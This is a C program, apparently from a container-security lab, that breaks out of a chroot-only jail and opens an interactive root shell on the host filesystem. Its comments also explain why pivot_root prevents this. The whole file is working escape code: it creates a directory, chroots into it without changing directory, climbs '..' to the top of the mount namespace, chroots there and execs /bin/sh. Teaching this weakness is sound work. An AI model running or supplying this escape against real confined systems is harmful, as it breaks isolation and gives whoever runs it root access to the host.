/*
 * breakout - the classic way out of a chroot(2) jail, to show why containers
 * are built with pivot_root(2) instead.
 *
 *   breakout [command [arg ...]]        (default: /bin/sh -i)
 *
 * Run it as root inside a container whose root was set with chroot() alone,
 * and it ends up at the root of the mount namespace, the host's "/", and
 * starts the command there. Run it inside a container built with pivot_root()
 * whose old root was then detached, and it finds nothing above "/", says so,
 * and leaves a note in /tmp/breakout.result.
 *
 * Why it works. A process has two directories the kernel keeps for it: its
 * root (where a path starting with "/" begins) and its cwd (where a relative
 * path begins). chroot() moves only the root; it does not touch the cwd, and
 * it may be called again by any process with CAP_SYS_CHROOT. When the kernel
 * walks "..", it refuses to go above a directory in one case only: when the
 * directory *is* the process's root. So:
 *
 *   1. mkdir a directory below us and chroot() into it, without chdir().
 *      Our root is now that directory, and our cwd is above it, outside.
 *   2. chdir("..") again and again. The cwd never passes through our root
 *      (the root is below it), so nothing stops it until the top of the whole
 *      mount tree, where ".." is the directory itself.
 *   3. chroot("."): make that top our root.
 *
 * pivot_root() closes this door because it changes the root of the mount
 * namespace itself, not one process's idea of it. Once the old root is
 * unmounted, the container's "/" is the top of its mount tree: step 2 climbs
 * nowhere, and step 3 lands where it started.
 *
 * Built static by rootfs-images/build.sh, so it runs in any image.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>

#define JAIL        ".breakout-jail"    /* made in our own root, then removed */
#define RESULT      "/tmp/breakout.result"
#define MAX_CLIMB   4096                /* deeper than any real tree */

static void say(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void say(const char *fmt, ...)
{
	va_list ap;

	fputs("breakout: ", stdout);
	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	fputc('\n', stdout);
	fflush(stdout);
}

static _Noreturn void fail(const char *what)
{
	int err = errno;

	say("%s: %s", what, strerror(err));
	if (err == EPERM)
		say("chroot() needs CAP_SYS_CHROOT: run me as root inside the container");
	exit(2);
}

static bool same(const struct stat *a, const struct stat *b)
{
	return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* "device 0:52, inode 1": how the kernel names a directory, whatever its path. */
static const char *name_of(const struct stat *st)
{
	static char buf[2][64];
	static int next;
	char *b = buf[next++ % 2];

	snprintf(b, sizeof buf[0], "device %u:%u, inode %llu", major(st->st_dev),
		 minor(st->st_dev), (unsigned long long)st->st_ino);
	return b;
}

/* A glance at where we landed: the first names at the top of "/". */
static void show_top(void)
{
	char line[512] = "";
	size_t used = 0;
	struct dirent *e;
	DIR *d = opendir("/");

	if (!d)
		return;
	while ((e = readdir(d)) && used < 200) {
		if (e->d_name[0] == '.')
			continue;
		used += (size_t)snprintf(line + used, sizeof line - used, " %s", e->d_name);
	}
	closedir(d);
	say("what / holds now:%s", line);
}

/* Left for whoever checks afterwards (the lab reads it from the host side). */
static void leave_result(const struct stat *root)
{
	FILE *f = fopen(RESULT, "w");

	if (!f || fprintf(f, "stayed %u:%u %llu\n", major(root->st_dev), minor(root->st_dev),
			  (unsigned long long)root->st_ino) < 0 || fclose(f) != 0) {
		say("could not write %s: %s", RESULT, strerror(errno));
		return;
	}
	say("report left in %s", RESULT);
}

int main(int argc, char **argv)
{
	struct stat before, after, here, up;
	int climbed = 0;

	if (stat("/", &before) < 0)
		fail("stat(\"/\")");
	say("my root is %s", name_of(&before));

	/* Start from our root, so the cwd is a place we know: it will end up
	 * above the jail. */
	if (chdir("/") < 0)
		fail("chdir(\"/\")");
	if (mkdir(JAIL, 0700) < 0 && errno != EEXIST)
		fail("mkdir(\"/" JAIL "\")");

	/* Step 1: the root goes down into the jail, the cwd stays up here. A
	 * process without CAP_SYS_CHROOT cannot make this first move at all: it
	 * stays where it is, and says so for whoever checks. */
	if (chroot(JAIL) < 0) {
		if (errno != EPERM)
			fail("chroot(\"" JAIL "\")");
		say("chroot(\"%s\"): %s: this process has no CAP_SYS_CHROOT (see CapEff in /proc/self/status), so there is no first move and no way out", JAIL, strerror(errno));
		leave_result(&before);
		return 2;
	}
	say("chroot(\"%s\") without chdir(): my cwd is now outside my root", JAIL);
	/* Relative to the cwd, which is still the old root: the jail was only
	 * needed as a root that the cwd is not under, and it has done that. */
	rmdir(JAIL);

	/* Step 2: climb until ".." is the directory itself. */
	for (;;) {
		if (stat(".", &here) < 0 || stat("..", &up) < 0)
			fail("stat(\"..\")");
		if (same(&here, &up) || climbed == MAX_CLIMB)
			break;
		if (chdir("..") < 0)
			fail("chdir(\"..\")");
		climbed++;
	}
	say("chdir(\"..\") %d time%s, until \"..\" was the directory itself", climbed,
	    climbed == 1 ? "" : "s");

	/* Step 3: make the top our root. */
	if (chroot(".") < 0)
		fail("chroot(\".\")");
	if (chdir("/") < 0)
		fail("chdir(\"/\")");
	if (stat("/", &after) < 0)
		fail("stat(\"/\")");
	say("chroot(\".\"): my root is now %s", name_of(&after));

	if (same(&before, &after)) {
		say("STAYED INSIDE: \"..\" of this / is / itself. It is the top of the mount");
		say("namespace, with nothing of the host above it (as after pivot_root and");
		say("unmounting the old root).");
		leave_result(&after);
		return 1;
	}

	say("ESCAPED: this is not the root I started in, it is the top of the");
	say("mount namespace: the host's / (chroot alone never moved it).");
	show_top();

	char *shell[] = { "/bin/sh", "-i", NULL };
	char **cmd = argc > 1 ? argv + 1 : shell;
	/* The container's shell settings are not the host's: a plain prompt that
	 * says where we are, and no start-up file from this new root. */
	setenv("PS1", "escaped# ", 1);
	unsetenv("ENV");
	say("running %s here (exit it to go back into the container)", cmd[0]);
	execvp(cmd[0], cmd);
	fail(cmd[0]);
}
